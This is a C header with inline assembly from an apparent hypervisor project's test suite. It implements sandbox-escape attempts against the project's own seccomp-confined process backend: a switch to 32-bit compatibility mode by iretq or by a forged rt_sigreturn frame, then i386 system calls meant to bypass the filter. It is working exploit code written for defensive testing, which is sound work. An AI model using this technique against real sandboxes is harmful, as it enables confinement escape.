/* Leaving 64-bit mode from a ring-3 guest of the process backend (issue
 * 11), for the escape attacks (guest/prog/attack_cpu.c) and the sandbox
 * test guest (tests/guests/sandbox.c).  Two ways a Linux process can load
 * CS = 0x23, the kernel's 32-bit user code segment (compatibility mode),
 * without a system call that the sandbox allows:
 *   - `iretq` to CS 0x23: ring 3 to ring 3, runs natively, no exit;
 *   - rt_sigreturn with a forged frame whose CS is 0x23.  The seccomp
 *     filter allows rt_sigreturn only from the stub's text, but the stub's
 *     restorer (`mov $15, %eax; syscall`) is mapped in the guest's address
 *     space (at ATTACK_STUB_TEXT_VA), so a guest can jump there with RSP at a
 *     frame of its own making.
 * Then, in compatibility mode, an i386 system call by `int 0x80`,
 * `syscall` or `sysenter` (EAX = number, EBX, ECX = arguments).  Should
 * the call ever come back, the 32-bit code far-returns to 64-bit mode
 * (CS 0x33) and the C caller gets EAX sign-extended: getting there means
 * the sandbox did not stop the attempt.
 *
 * What stops it depends on the host (docs/security.md): seccomp kills an
 * i386 system call with SIGSYS; a kernel without 32-bit emulation has no
 * int 0x80 gate (#GP); a CPU without `syscall`/`sysenter` in the mode
 * raises #UD; a host that refuses the 32-bit segment faults at the iretq
 * or the sigreturn's return.
 *
 * Top-level assembly: include in one translation unit per program.  Code,
 * stacks and the path must lie below 4 GiB (guest RAM starts at 1 MiB). */
#ifndef IOVIRT_GUEST_PROG_COMPAT32_H
#define IOVIRT_GUEST_PROG_COMPAT32_H

#include <stdint.h>

/* Where iovirt's process backend links its stub (vcpu/proc/proc_mailbox.h,
 * PROC_STUB_TEXT_VA): an attacker reads it from the source, so the attack
 * hard-codes it rather than include the backend's private protocol. */
#define ATTACK_STUB_TEXT_VA 0x7e0000000000ull

#define COMPAT32_USER32_CS 0x23   /* Linux __USER32_CS */
#define COMPAT32_USER_DS   0x2b   /* Linux __USER_DS */
#define COMPAT32_USER_CS   0x33   /* Linux __USER_CS */
#define COMPAT32_NR_MKDIR  39     /* i386 */
#define COMPAT32_NR_CREAT  8      /* i386 */

/* 32-bit entry points: the instruction, then back to 64-bit mode. */
void compat32_int80(void);
void compat32_syscall(void);
void compat32_sysenter(void);
/* No system call: returns CS as seen in compatibility mode (0x23), to show
 * a mode switch took place (a probe, not an attack). */
void compat32_cs(void);

/* struct ucontext of x86-64 Linux (asm/ucontext.h, asm/sigcontext.h), as
 * rt_sigreturn reads it at the stack pointer (the frame's pretcode below
 * it, siginfo above). */
struct compat32_ucontext {
    uint64_t uc_flags;
    uint64_t uc_link;
    uint64_t ss_sp;
    int32_t ss_flags, pad0;
    uint64_t ss_size;
    uint64_t r8, r9, r10, r11, r12, r13, r14, r15;
    uint64_t rdi, rsi, rbp, rbx, rdx, rax, rcx, rsp, rip, eflags;
    uint16_t cs, gs, fs, ss;
    uint64_t err, trapno, oldmask, cr2;
    uint64_t fpstate;            /* 0: no FPU state to restore */
    uint64_t reserved1[8];
    uint64_t uc_sigmask;
};
_Static_assert(sizeof(struct compat32_ucontext) == 304, "x86-64 struct ucontext");
_Static_assert(__builtin_offsetof(struct compat32_ucontext, rip) == 40 + 16 * 8, "sigcontext.rip");
_Static_assert(__builtin_offsetof(struct compat32_ucontext, cs) == 40 + 18 * 8, "sigcontext.cs");

struct compat32_sigframe {
    uint64_t pretcode;
    struct compat32_ucontext uc;
    uint8_t info[128];           /* siginfo: not read by rt_sigreturn */
} __attribute__((aligned(16)));

#define COMPAT32_UC_SIGCONTEXT_SS 0x2
#define COMPAT32_UC_STRICT_RESTORE_SS 0x4

/* iretq to CS 0x23 at entry with EAX = nr, EBX = a1, ECX = a2 (EBP = a2
 * too: the 32-bit `syscall` ABI passes it there, ECX being clobbered). */
long compat32__iret(void (*entry)(void), uint32_t nr, uint32_t a1, uint32_t a2);
/* rt_sigreturn through `restorer` (an address in the stub's text) with
 * RSP = &f->uc. */
long compat32__sigreturn(struct compat32_sigframe *f, uint64_t restorer);

__asm__(".data\n"
        ".balign 8\n"
        "compat32_saved_rsp: .quad 0\n"
        ".text\n"
        ".code64\n"
        ".globl compat32__iret\n"
        "compat32__iret:\n"
        "  push %rbx\n  push %rbp\n  push %r12\n  push %r13\n  push %r14\n  push %r15\n"
        "  mov %rsp, compat32_saved_rsp(%rip)\n"
        "  mov %rdi, %r8\n"
        "  mov %esi, %eax\n"
        "  mov %edx, %ebx\n"
        "  mov %ecx, %ebp\n"
        "  mov %rsp, %r9\n"
        "  pushq $0x2b\n"       /* SS */
        "  pushq %r9\n"         /* RSP */
        "  pushfq\n"
        "  pushq $0x23\n"       /* CS: 32-bit user code */
        "  pushq %r8\n"         /* RIP */
        "  iretq\n"
        ".globl compat32__sigreturn\n"
        "compat32__sigreturn:\n"
        "  push %rbx\n  push %rbp\n  push %r12\n  push %r13\n  push %r14\n  push %r15\n"
        "  mov %rsp, compat32_saved_rsp(%rip)\n"
        "  lea 8(%rdi), %rsp\n" /* &f->uc */
        "  mov $15, %eax\n"     /* __NR_rt_sigreturn */
        "  jmp *%rsi\n"
        ".code32\n"
        ".globl compat32_int80\n"
        "compat32_int80:\n"
        "  int $0x80\n"
        "  jmp compat32_back\n"
        ".globl compat32_syscall\n"
        "compat32_syscall:\n"
        "  syscall\n"
        "  jmp compat32_back\n"
        ".globl compat32_sysenter\n"
        "compat32_sysenter:\n"
        "  mov %esp, %ebp\n"    /* the i386 sysenter ABI: EBP = user stack */
        "  sysenter\n"
        "  jmp compat32_back\n"
        ".globl compat32_cs\n"
        "compat32_cs:\n"
        "  mov %cs, %eax\n"
        "  movzwl %ax, %eax\n"
        "compat32_back:\n"
        "  pushl $0x33\n"
        "  pushl $compat32_back64\n"
        "  lret\n"
        ".code64\n"
        "compat32_back64:\n"
        "  mov compat32_saved_rsp(%rip), %rsp\n"
        "  movslq %eax, %rax\n"
        "  pop %r15\n  pop %r14\n  pop %r13\n  pop %r12\n  pop %rbp\n  pop %rbx\n"
        "  ret\n");

/* The stub's rt_sigreturn restorer, `mov $15, %eax; syscall`, in the first
 * pages of its image (header, text, rodata: all mapped); 0 if not found. */
static inline uint64_t compat32__find_restorer(void)
{
    static const uint8_t pat[] = {0xB8, 0x0F, 0x00, 0x00, 0x00, 0x0F, 0x05};
    const volatile uint8_t *p = (const volatile uint8_t *)ATTACK_STUB_TEXT_VA;
    for (uint64_t i = 0; i + sizeof pat <= 0x3000; i++) {
        unsigned k = 0;
        while (k < sizeof pat && p[i + k] == pat[k])
            k++;
        if (k == sizeof pat)
            return ATTACK_STUB_TEXT_VA + i;
    }
    return 0;
}

/* A frame that returns to `entry` in compatibility mode with EAX = nr,
 * EBX = a1, ECX = a2, on `stack` (16-byte aligned top, below 4 GiB). */
static inline void compat32__forge(struct compat32_sigframe *f, void (*entry)(void), uint32_t nr, uint32_t a1,
                                   uint32_t a2, uint64_t stack)
{
    uint8_t *b = (uint8_t *)f;
    for (unsigned i = 0; i < sizeof *f; i++)
        b[i] = 0;
    struct compat32_ucontext *uc = &f->uc;
    uc->uc_flags = COMPAT32_UC_SIGCONTEXT_SS | COMPAT32_UC_STRICT_RESTORE_SS;
    /* An invalid sigaltstack mode: restoring it fails, which rt_sigreturn
     * ignores, so the stub keeps its own alternate stack. */
    uc->ss_flags = 3;
    uc->rax = nr;
    uc->rbx = a1;
    uc->rcx = a2;
    uc->rbp = a2;
    uc->rsp = stack;
    uc->rip = (uint64_t)(uintptr_t)entry;
    uc->eflags = 0x202;
    uc->cs = COMPAT32_USER32_CS;
    uc->ss = COMPAT32_USER_DS;
    uc->uc_sigmask = 0;
}

#endif
